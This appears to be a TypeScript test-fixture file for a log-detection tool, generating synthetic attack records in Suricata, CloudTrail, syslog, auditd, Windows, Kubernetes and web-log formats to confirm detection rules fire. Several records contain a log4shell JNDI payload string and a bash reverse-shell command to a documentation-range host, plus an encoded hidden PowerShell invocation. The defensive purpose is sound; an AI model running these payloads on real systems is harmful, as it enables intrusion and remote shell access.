/**
 * The heartbeat's test attacks: for each format that sources bring, a record in exactly that format which a rule that comes with Picket
 * must find. Addresses are of the ranges for documentation (RFC 5737), names end in .example (RFC 2606), so nobody is accused.
 */

export type Attack = {
  /** A parser's name. */
  readonly format: string
  readonly title: string
  /** Header lines in force, for formats that have them. */
  readonly header?: readonly string[]
  /** `unique` is eight hexadecimal digits, other ones in each run: the record must not be taken for one that was there before. */
  record(nowMs: number, unique: string): string
}

const victim = '192.0.2.10'
/** Another one for each record, so that each makes an alert of its own. */
const attackerOf = (unique: string): string => `203.0.113.${1 + (Number.parseInt(unique.slice(0, 4), 16) % 254)}`
const hostOf = (unique: string): string => `${unique}.heartbeat.example`
const jndi = (unique: string): string => `\${jndi:ldap://${attackerOf(unique)}:1389/${unique}}`

const iso = (ms: number): string => new Date(ms).toISOString()
const seconds = (ms: number): number => Math.floor(ms / 1000)
const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec']
const two = (value: number): string => String(value).padStart(2, '0')

/** `21/Nov/2026:15:04:05 +0000`. */
function clf(ms: number): string {
  const at = new Date(ms)
  const time = [at.getUTCHours(), at.getUTCMinutes(), at.getUTCSeconds()].map(two).join(':')
  return `${two(at.getUTCDate())}/${months[at.getUTCMonth()]}/${at.getUTCFullYear()}:${time} +0000`
}

/** A web server's line in the combined log format, with the log4shell string where attackers put it. */
const combined = (ms: number, unique: string): string =>
  `${attackerOf(unique)} - - [${clf(ms)}] "GET /?x=${jndi(unique)} HTTP/1.1" 404 153 "-" "${jndi(unique)}"`

const json = (value: unknown): string => JSON.stringify(value)

const cloudTrail = (ms: number, unique: string) => ({
  eventVersion: '1.09',
  userIdentity: {
    type: 'Root',
    principalId: '123456789012',
    arn: 'arn:aws:iam::123456789012:root',
    accountId: '123456789012'
  },
  eventTime: iso(ms).replace(/\.\d+Z$/, 'Z'),
  eventSource: 'cloudtrail.amazonaws.com',
  eventName: 'StopLogging',
  awsRegion: 'eu-central-1',
  sourceIPAddress: attackerOf(unique),
  userAgent: 'aws-cli/2',
  requestParameters: { name: 'arn:aws:cloudtrail:eu-central-1:123456789012:trail/heartbeat' },
  responseElements: null,
  requestID: `00000000-0000-4000-8000-0000${unique}`,
  eventID: `00000000-0000-4000-9000-0000${unique}`,
  readOnly: false,
  eventType: 'AwsApiCall',
  managementEvent: true,
  recipientAccountId: '123456789012',
  eventCategory: 'Management'
})

/** In the order in which they are tried; of a format there may be several, of which one must be found. */
export const attacks: readonly Attack[] = [
  {
    format: 'suricata',
    title: 'An exploit that the network sensor saw',
    record: (ms, unique) =>
      json({
        timestamp: iso(ms).replace('Z', '000+0000'),
        flow_id: Number.parseInt(unique, 16),
        in_iface: 'heartbeat',
        event_type: 'alert',
        src_ip: attackerOf(unique),
        src_port: 43210,
        dest_ip: victim,
        dest_port: 80,
        proto: 'TCP',
        alert: {
          action: 'allowed',
          gid: 1,
          signature_id: 2034647,
          rev: 1,
          signature: 'ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)',
          category: 'Attempted Administrator Privilege Gain',
          severity: 1
        },
        http: {
          hostname: hostOf(unique),
          url: `/?x=${jndi(unique)}`,
          http_user_agent: jndi(unique),
          http_method: 'GET',
          protocol: 'HTTP/1.1',
          status: 404,
          length: 153
        },
        app_proto: 'http'
      })
  },
  {
    format: 'cloudtrail',
    title: 'The audit trail is switched off, by root',
    record: (ms, unique) => json(cloudTrail(ms, unique))
  },
  {
    format: 'vpc-flow',
    title: 'Remote desktop reached from the Internet',
    header: [
      'version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status'
    ],
    record: (ms, unique) =>
      `2 123456789012 eni-0${unique}0${unique} ${attackerOf(unique)} 10.0.0.10 43210 3389 6 20 4249 ${seconds(ms)} ${seconds(ms) + 5} ACCEPT OK`
  },
  {
    format: 'zeek-json',
    title: 'A web request with a log4shell string',
    record: (ms, unique) =>
      json({
        ts: ms / 1000,
        uid: `C${unique}heartbeat`,
        'id.orig_h': attackerOf(unique),
        'id.orig_p': 43210,
        'id.resp_h': victim,
        'id.resp_p': 80,
        trans_depth: 1,
        method: 'GET',
        host: hostOf(unique),
        uri: `/?x=${jndi(unique)}`,
        version: '1.1',
        user_agent: jndi(unique),
        request_body_len: 0,
        response_body_len: 153,
        status_code: 404,
        status_msg: 'Not Found',
        tags: []
      })
  },
  { format: 'nginx-access', title: 'A web request with a log4shell string', record: combined },
  { format: 'apache-access', title: 'A web request with a log4shell string', record: combined },
  {
    format: 'caddy',
    title: 'A web request with a log4shell string',
    record: (ms, unique) =>
      json({
        level: 'info',
        ts: ms / 1000,
        logger: 'http.log.access',
        msg: 'handled request',
        request: {
          remote_ip: attackerOf(unique),
          remote_port: '43210',
          client_ip: attackerOf(unique),
          proto: 'HTTP/1.1',
          method: 'GET',
          host: hostOf(unique),
          uri: `/?x=${jndi(unique)}`,
          headers: { 'User-Agent': [jndi(unique)] }
        },
        bytes_read: 0,
        duration: 0.001,
        size: 153,
        status: 404
      })
  },
  {
    format: 'syslog',
    title: 'Root signs in over SSH with a password',
    record: (ms, unique) =>
      `<86>1 ${iso(ms)} ${hostOf(unique)} sshd ${Number.parseInt(unique.slice(0, 4), 16)} - - Accepted password for root from ${attackerOf(unique)} port 43210 ssh2`
  },
  {
    format: 'syslog',
    title: 'A reverse shell as a cron job',
    record: (ms, unique) =>
      `<78>1 ${iso(ms)} ${hostOf(unique)} CRON ${Number.parseInt(unique.slice(0, 4), 16)} - - (root) CMD (bash -i >& /dev/tcp/${attackerOf(unique)}/4444 0>&1)`
  },
  {
    format: 'auditd',
    title: 'A reverse shell',
    record: (ms, unique) => {
      const id = `audit(${seconds(ms)}.${String(ms % 1000).padStart(3, '0')}:${Number.parseInt(unique.slice(0, 6), 16)})`
      const command = `bash -i >& /dev/tcp/${attackerOf(unique)}/4444 0>&1`
      const hex = [...command].map(c => c.charCodeAt(0).toString(16).padStart(2, '0').toUpperCase()).join('')
      return `node=${hostOf(unique)} type=EXECVE msg=${id}: argc=3 a0="bash" a1="-c" a2=${hex}`
    }
  },
  {
    format: 'windows-json',
    title: 'The security log is cleared',
    record: (ms, unique) =>
      json({
        '@timestamp': iso(ms),
        winlog: {
          channel: 'Security',
          provider_name: 'Microsoft-Windows-Eventlog',
          event_id: '1102',
          record_id: Number.parseInt(unique, 16),
          computer_name: hostOf(unique),
          user_data: { SubjectUserName: 'heartbeat', SubjectDomainName: 'EXAMPLE' }
        },
        event: { code: '1102', provider: 'Microsoft-Windows-Eventlog', action: 'log-cleared' },
        host: { name: hostOf(unique) },
        message: 'The audit log was cleared.'
      })
  },
  {
    format: 'windows-json',
    title: 'PowerShell runs an encoded command',
    record: (ms, unique) =>
      json({
        '@timestamp': iso(ms),
        winlog: {
          channel: 'Microsoft-Windows-Sysmon/Operational',
          provider_name: 'Microsoft-Windows-Sysmon',
          event_id: '1',
          record_id: Number.parseInt(unique, 16),
          computer_name: hostOf(unique),
          event_data: {
            Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
            OriginalFileName: 'PowerShell.EXE',
            CommandLine: `powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA${unique}`,
            ParentImage: 'C:\\Windows\\System32\\cmd.exe',
            User: 'EXAMPLE\\heartbeat',
            ProcessId: '4242'
          }
        },
        event: { code: '1', provider: 'Microsoft-Windows-Sysmon' },
        host: { name: hostOf(unique) }
      })
  },
  {
    format: 'kubernetes-audit',
    title: 'A shell in a pod',
    record: (ms, unique) =>
      json({
        kind: 'Event',
        apiVersion: 'audit.k8s.io/v1',
        level: 'Metadata',
        auditID: `00000000-0000-4000-8000-0000${unique}`,
        stage: 'ResponseComplete',
        requestURI: '/api/v1/namespaces/default/pods/web/exec?command=sh',
        verb: 'create',
        user: { username: 'heartbeat', groups: ['system:authenticated'] },
        sourceIPs: [attackerOf(unique)],
        userAgent: 'kubectl/v1.31.0',
        objectRef: { resource: 'pods', namespace: 'default', name: 'web', apiVersion: 'v1', subresource: 'exec' },
        responseStatus: { metadata: {}, code: 101 },
        requestReceivedTimestamp: iso(ms).replace('Z', '000Z'),
        stageTimestamp: iso(ms).replace('Z', '000Z')
      })
  },
  {
    format: 'gelf',
    title: 'A web request with a log4shell string',
    record: (ms, unique) =>
      json({
        version: '1.1',
        host: hostOf(unique),
        short_message: `GET /?x=${jndi(unique)}`,
        timestamp: ms / 1000,
        level: 6,
        _source_ip: attackerOf(unique)
      })
  },
  {
    format: 'ndjson',
    title: 'A web request with a log4shell string',
    record: (ms, unique) =>
      json({
        '@timestamp': iso(ms),
        ecs: { version: '8.17' },
        event: { kind: 'event', category: ['web'], dataset: 'heartbeat.web' },
        host: { name: hostOf(unique) },
        source: { ip: attackerOf(unique) },
        url: { path: '/', query: `x=${jndi(unique)}`, original: `/?x=${jndi(unique)}` },
        user_agent: { original: jndi(unique) },
        message: `GET /?x=${jndi(unique)}`
      })
  }
]

/** `mixed` streams are judged line by line: what is a syslog line there is one. */
const standsFor: Readonly<Record<string, string>> = {
  mixed: 'syslog',
  'nginx-ingress': 'nginx-access',
  'vpc-flow-rows': 'vpc-flow',
  shipper: 'ndjson',
  cloudwatch: 'cloudtrail',
  'aws-envelope': 'cloudtrail'
}

export function attacksOf(format: string): readonly Attack[] {
  const own = attacks.filter(attack => attack.format === format)
  return own.length > 0 ? own : attacks.filter(attack => attack.format === standsFor[format])
}

export const attackFormats: readonly string[] = [...new Set(attacks.map(({ format }) => format))]
